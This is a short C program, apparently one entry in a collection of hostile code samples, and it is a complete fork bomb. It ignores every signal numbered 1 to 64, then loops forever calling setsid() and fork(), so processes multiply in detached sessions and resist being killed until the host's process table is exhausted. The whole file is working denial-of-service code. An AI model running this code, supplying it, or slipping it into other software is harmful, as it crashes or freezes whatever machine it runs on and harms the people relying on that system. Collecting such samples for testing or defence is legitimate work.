/* Row 8: processes that make processes, in sessions of their own, deaf to all signals. */
#include "hostile.h"

int main(void) {
    for (int i = 1; i < 65; i++) signal(i, SIG_IGN);
    for (;;) {
        setsid();
        fork();
    }
}
